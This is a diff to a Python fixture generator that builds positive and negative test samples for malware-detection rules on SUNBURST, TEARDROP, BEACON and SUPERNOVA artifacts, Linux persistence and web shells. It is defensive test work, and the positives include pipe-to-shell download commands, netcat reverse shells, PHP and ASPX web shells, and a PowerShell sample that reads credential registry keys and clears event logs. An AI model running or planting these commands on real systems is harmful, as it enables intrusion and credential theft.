@@ -83,6 +83,53 @@ def pe_file(*parts):
     return bytes(dos) + b"PE\x00\x00" + coff + bytes(opt) + body
 
 
+def minidump(*payloads):
+    """A minidump shape: MDMP header, a stream directory, the payloads
+    (a process's mapped module) at 4 KB boundaries."""
+    hdr = struct.pack("<4sHHIIIIQ", b"MDMP", 0xA793, 0, 1, 0x20, 0,
+                      0x5F000000, 0x2)
+    out = bytearray(hdr + struct.pack("<III", 5, 0x100, 0x2C))
+    for p in payloads:
+        out += b"\x00" * (-len(out) % 4096)
+        out += p
+    return bytes(out)
+
+
+def carved(pe):
+    """A carved copy whose first 4 KB (headers) are lost: the PE body
+    moved past 4 KB, then the first 4 KB zeroed."""
+    data = bytearray(pe[:0x178] + b"\xcc" * 4096 + pe[0x178:])
+    data[:4096] = b"\x00" * 4096
+    return bytes(data)
+
+
+def beacon_settings(types=(1, 1, 2, 2, 1, 1)):
+    """The first settings of a Cobalt Strike configuration block (index,
+    type, length big-endian, then the value) with harmless values:
+    type 1 = short, 2 = int."""
+    out = b""
+    values = (0, 443, 60000, 1048576, 0, 255)
+    for i, (ty, v) in enumerate(zip(types, values), 1):
+        n = 2 if ty == 1 else 4
+        out += struct.pack(">HHH", i, ty, n) + (v & ((1 << 8 * n) - 1)).to_bytes(n, "big")
+    return out + struct.pack(">HHH", 7, 3, 16) + b"\x00" * 16
+
+
+def xor(data, key):
+    return bytes(b ^ key for b in data)
+
+
+def teardrop_code():
+    """x64 shapes of a TEARDROP-like loader (no working code): a JFIF
+    compare, the payload extension stored a byte at a time, an XOR loop."""
+    jfif = b"\xc7\x44\x24\x20JFIF" + b"\x48\x8d\x4c\x24\x20"
+    ext = b"".join(b"\xc6\x05" + struct.pack("<i", 0x2000 + i) + c
+                   for i, c in enumerate((b"j", b"p", b"e", b"g")))
+    loop = (b"\x30\x04\x11" + b"\x48\xff\xc1" + b"\x48\x39\xd1"
+            + b"\x72\xf5")
+    return jfif + b"\x90" * 8 + ext + b"\x90" * 8 + loop
+
+
 def der_len(n):
     if n < 0x80:
         return bytes([n])
@@ -145,6 +192,26 @@ def positives():
     yield ("sunburst_fnv_blocklist.dll", "IRK_SUNBURST_FNV1a_XOR_Blocklist",
            pe_file(bytes(il)))
 
+    names_pe = pe_file(strings_heap(
+        "<Module>", "OrionImprovementBusinessLayer", "ExecuteEngine",
+        "ParseServiceResponse", "RunTask", "CreateUploadRequest",
+        "GetOrCreateUserID", "ZipHelper", "CryptoHelper"))
+    deflate_pe = pe_file(strings_heap("Unzip", "Zip"), us_heap(*encoded))
+    fnv_pe = pe_file(bytes(il))
+    # --- issue 18: dumps and carved copies (no MZ at offset 0) ------------
+    yield ("sunburst_names.dmp", "IRK_SUNBURST_DotNet_Names_Dump",
+           minidump(b"x" * 300, names_pe))
+    yield ("sunburst_deflate.dmp", "IRK_SUNBURST_Deflate_Base64_Dump",
+           minidump(deflate_pe))
+    yield ("sunburst_fnv.dmp", "IRK_SUNBURST_FNV1a_XOR_Dump",
+           minidump(fnv_pe))
+    yield ("sunburst_names_carved.bin", "IRK_SUNBURST_DotNet_Names_Dump",
+           carved(names_pe))
+    yield ("sunburst_deflate_carved.bin", "IRK_SUNBURST_Deflate_Base64_Dump",
+           carved(deflate_pe))
+    yield ("sunburst_fnv_carved.bin", "IRK_SUNBURST_FNV1a_XOR_Dump",
+           carved(fnv_pe))
+
     yield ("sunburst_dns_query.log", "IRK_SUNBURST_C2_Hostname", (
         "2020-06-13T09:20:41Z query: 6a57jk2ba1d9keg15cbg.appsync-api.eu-west-1."
         "avsvmcloud.com IN A +\n"
@@ -183,6 +250,23 @@ def positives():
         b"\x007-zip.dll\x00", strings_heap(
             "DllCanUnloadNow", "DllGetClassObject", "DllRegisterServer",
             "DllUnregisterServer", "SetCodecs")))
+
+    # --- issue 18: TEARDROP code shapes, payload name alone -------------
+    yield ("teardrop_shapes.dll", "IRK_TEARDROP_Loader_Code_Shapes",
+           pe_file(teardrop_code(), strings_heap("ServiceMain")))
+    yield ("teardrop_name_only.dll", "IRK_TEARDROP_Payload_Name_PE",
+           pe_file(utf16("C:\\ProgramData\\gracious_truth.jpg")))
+    ctf_stack = (b"\xc7\x44\x24\x30SOFT" + b"\xc7\x44\x24\x34WARE"
+                 + b"\xc7\x44\x24\x38\\Mic")
+    yield ("teardrop_ctf_stack.dll", "IRK_TEARDROP_Loader_Strings",
+           pe_file(b"gracious_truth.jpg\x00", ctf_stack))
+    # --- issue 18: BEACON configuration, plain and XOR-encoded ------------
+    yield ("beacon_config_x69.bin", "IRK_BEACON_Config_Encoded",
+           b"\x90" * 64 + xor(beacon_settings(), 0x69) + b"\x69" * 64)
+    yield ("beacon_config_x2e.dll", "IRK_BEACON_Config_Encoded",
+           pe_file(xor(beacon_settings(), 0x2E)))
+    yield ("beacon_config_plain.dmp", "IRK_BEACON_Config_Encoded",
+           minidump(beacon_settings()))
 
     # --- SUPERNOVA -------------------------------------------------------
     yield ("supernova_logoimagehandler.dll", "IRK_SUPERNOVA_WebShell_DLL",
@@ -337,6 +421,24 @@ def positives():
     yield ("hidden-preload.service", "IRK_Linux_LD_Preload_Hijack", (
         "[Service]\nEnvironment=LD_PRELOAD=/home/bob/.local/lib/libh.so\n"
         "ExecStart=/usr/sbin/sshd -D\n").encode())
+    # --- issue 18 cost rework: forms the literal atoms must keep ------------
+    yield ("pipe_tab_sudo.sh", "IRK_Linux_Script_Download_Pipe_Shell",
+           b"curl -s https://get.example.invalid/i |\tsudo -E sh\n")
+    yield ("pipe_nospace.sh", "IRK_Linux_Download_Exec_Raw_Host",
+           b"wget -qO- http://203.0.113.7/i|/bin/bash\n")
+    yield ("revshell_nc_c.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"nc -c bash 192.0.2.10 4444\n")
+    yield ("revshell_nc_quoted.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"ncat 192.0.2.10 4444 -e '/bin/sh'\n")
+    yield ("preg_e.php", "IRK_WebShell_PHP_Request_Exec",
+           b"<?php preg_replace('/.*/e', $_REQUEST['c'], ''); ?>\n")
+    # --- lists and uses: IOC list lines do not count, a use still does ---
+    yield ("ioc_list_and_log.txt", "IRK_SUNBURST_Stage2_C2_Domains", (
+        "avsvmcloud.com\t# from iocs/domains.txt\n5.252.177.25\n"
+        "gracious_truth.jpg\t# a file name\n"
+        "2020-06-13 query: x1.appsync.avsvmcloud.com A from 10.0.0.5\n"
+        "2020-06-13 deny tcp 10.0.0.5 -> 5.252.177.25:443\n"
+        "C:\\Windows\\Temp\\gracious_truth.jpg opened\n").encode())
     # --- issue 18: web shells ---------------------------------------------
     yield ("varfunc.php", "IRK_WebShell_PHP_Request_Exec",
            b"<?php $_GET['f']($_GET['c']); ?>\n")
@@ -357,6 +459,43 @@ def positives():
     yield ("start.aspx", "IRK_WebShell_ASPX_Request_Exec", (
         "<%@ Page Language=\"C#\" %>\n<% System.Diagnostics.Process.Start("
         "\"cmd.exe\", \"/c \" + Request[\"c\"]); %>\n").encode())
+
+    # --- issue 18: logs and scripts ----------------------------------------
+    yield ("u_ex201120.log", "IRK_SUPERNOVA_Web_Log_Request", (
+        "#Software: Microsoft Internet Information Services 10.0\r\n"
+        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip sc-status\r\n"
+        "2020-11-20 10:01:02 10.0.0.20 GET /Orion/LogoImageHandler.ashx id=SiteLogo 443 10.0.0.5 200\r\n"
+        "2020-11-20 10:03:04 10.0.0.20 GET /Orion/LogoImageHandler.ashx "
+        "codes=aXJraXQ%3D&clazz=irkit.Fixture&method=Run&args= 443 192.0.2.44 200\r\n").encode())
+    yield ("access.log", "IRK_SUPERNOVA_Web_Log_Request", (
+        '192.0.2.44 - - [20/Nov/2020:10:03:04 +0000] "POST /Orion/logoimagehandler.ashx'
+        '?clazz=irkit.Fixture&method=Run HTTP/1.1" 200 12 "-" "curl/7.68"\n').encode())
+    yield ("dns_debug.log", "IRK_SUNBURST_DNS_Debug_Log_Or_Packet", (
+        "6/13/2020 9:20:41 AM 0E4C PACKET  000001E1 UDP Rcv 10.0.0.5 4f2a   Q [0001   D   NOERROR] A "
+        "(20)6a57jk2ba1d9keg15cbg(11)appsync-api(9)eu-west-1(10)avsvmcloud(3)com(0)\r\n").encode("utf-16-le"))
+    qname = b"".join(bytes([len(l)]) + l for l in (
+        b"ihvpgv9psvq02ffo77et", b"appsync-api", b"us-east-2", b"avsvmcloud", b"com")) + b"\x00"
+    yield ("dns_query.bin", "IRK_SUNBURST_DNS_Debug_Log_Or_Packet",
+           struct.pack(">HHHHHH", 0x4f2a, 0x0100, 1, 0, 0, 0) + qname + b"\x00\x01\x00\x01")
+    yield ("proxy_swip.log", "IRK_SUNBURST_Proxy_SWIP_Path", (
+        "1592039641.000 80 10.0.0.5 TCP_MISS/200 512 GET "
+        "https://api.solarwinds.com/swip/upd/SolarWinds.CortexPlugin.xml - DIRECT/192.0.2.80 text/xml\n"
+        "1592039700.000 95 10.0.0.5 TCP_MISS/200 730 POST "
+        "http://telemetry.example.invalid/swip/Upload.ashx - DIRECT/192.0.2.81 text/plain\n").encode())
+    yield ("collect.ps1", "IRK_COSMICGALE_Style_PowerShell", (
+        "# irkit test fixture: shapes only, runs nothing\n"
+        "$k = 'HKLM:\\SAM\\SAM\\Domains\\Account'\n"
+        "foreach ($c in 'JD','Skew1','GBG','Data') { $p = \"HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\$c\" }\n"
+        "$empty = [byte[]]@(0xaa,0xd3,0xb4,0x35,0xb5,0x14,0x04,0xee)\n"
+        "wevtutil cl 'Windows PowerShell'\n").encode())
+    yield ("sunspot_handles.txt", "IRK_SUNSPOT_Build_Server_Artifacts", (
+        "taskhostsvc.exe pid: 4120\n  1F4: Mutant  \\Sessions\\1\\BaseNamedObjects\\"
+        "{12d61a41-4b74-7610-a4d8-3028d2f56395}\n").encode())
+    yield ("vmware-vmdmp.log", "IRK_SUNSPOT_Build_Server_Artifacts", (
+        "[4120] 2020-02-20 10:00:01:123 started\n"
+        "[4120] Solution directory: C:\\Builds\\Orion\\Core\n"
+        "[ERROR] Step4('C:\\Builds\\Orion\\Core\\InventoryManager.cs') fails\n"
+        "[4120] Step18 fails with error 0x2\n").encode())
 
     # --- web shells ------------------------------------------------------
     yield ("cmd.php", "IRK_WebShell_PHP_Request_Exec",
@@ -456,6 +595,49 @@ def negatives():
     yield ("template.php", (
         "<?php $page = htmlspecialchars($_GET['p'] ?? 'home');\n"
         "exec('git rev-parse HEAD', $out);\n$stmt = $db->exec($sql); ?>\n").encode())
+    # an IOC or block list: bare values alone on their lines
+    yield ("blocklist.txt", b"# blocked\navsvmcloud.com\nzupertech.com\t# c2\n"
+           b"13.59.205.66\ngracious_truth.jpg\r\nfreescanonline.com")
+    # a dump with the evidence the PE rules need, not what the dump twins need
+    yield ("orion_few_names.dmp", minidump(pe_file(strings_heap(
+        "OrionImprovementBusinessLayer", "ExecuteEngine", "RunTask",
+        "ZipHelper", "CryptoHelper"), us_heap(*[deflate_b64(s) for s in (
+            "avsvmcloud.com", "appsync-api", "eu-west-1", "us-west-2",
+            "ReportWatcherRetry")]))))
+    yield ("fnv_few.dmp", minidump(b"\x21" + struct.pack("<Q", SUNBURST_XOR) + b"".join(
+        b"\x21" + struct.pack("<Q", sunburst_hash(n)) for n in (
+            "windefend", "sysmon", "dnspy", "tanium"))))
+    # look-alikes: a JPEG library's JFIF compare alone, another TLV layout
+    # XOR-encoded, the key byte repeated
+    yield ("jpeg_reader.dll", pe_file(b"\xc7\x44\x24\x20JFIF",
+                                       strings_heap("jpeg_read_header")))
+    yield ("tlv_other_x69.bin", xor(beacon_settings((2, 2, 1, 1, 2, 2)), 0x69)
+           + xor(beacon_settings((1, 2, 2, 2, 1, 1)), 0x2E))
+    yield ("ihih.txt", b"ihihik" * 200 + b"./,/.," * 200)
+    # near misses of the log rules
+    yield ("u_ex_clean.log", (
+        "2020-11-20 10:01:02 10.0.0.20 GET /Orion/LogoImageHandler.ashx id=SiteLogo 443 10.0.0.5 200\r\n"
+        "2020-11-20 10:01:03 10.0.0.20 GET /Orion/Login.aspx clazz=x 443 10.0.0.5 200\r\n").encode())
+    yield ("dns_debug_clean.log", (
+        "6/13/2020 9:20:41 AM 0E4C PACKET UDP Rcv 10.0.0.5 Q A "
+        "(3)api(10)solarwinds(3)com(0)\r\n"
+        "6/13/2020 9:20:42 AM 0E4C PACKET UDP Rcv 10.0.0.5 Q A "
+        "(10)avsvmcloud(3)net(0)\r\n").encode())
+    yield ("proxy_solarwinds.log", (
+        "1592039641.000 80 10.0.0.5 TCP_MISS/200 512 GET "
+        "https://api.solarwinds.com/swip/upd/SolarWinds.CortexPlugin.xml - DIRECT/192.0.2.80 text/xml\n"
+        "1592039642.000 80 10.0.0.5 TCP_MISS/200 512 GET "
+        "https://downloads.solarwinds.com:443/swip/Events - DIRECT/192.0.2.82 text/xml\n"
+        "1592039643.000 80 10.0.0.5 TCP_MISS/200 512 GET "
+        "https://cdn.example.org/static/swipe/a.js - DIRECT/192.0.2.83 text/js\n").encode())
+    yield ("audit.ps1", (
+        "# reads the SAM key for an inventory, clears nothing\n"
+        "Get-Item 'HKLM:\\SAM\\SAM\\Domains\\Account' | Out-Null\n"
+        "Get-Item 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\JD' | Out-Null\n"
+        "wevtutil qe Security /c:5\n").encode())
+    yield ("build.log", (
+        "[ERROR] Step4 fails: missing project reference\n"
+        "[1] Step7 fails\n[12] Build directory: C:\\Builds\n").encode())
     yield ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00"
            + bytes(range(256)) * 4 + b"\xff\xd9")
 
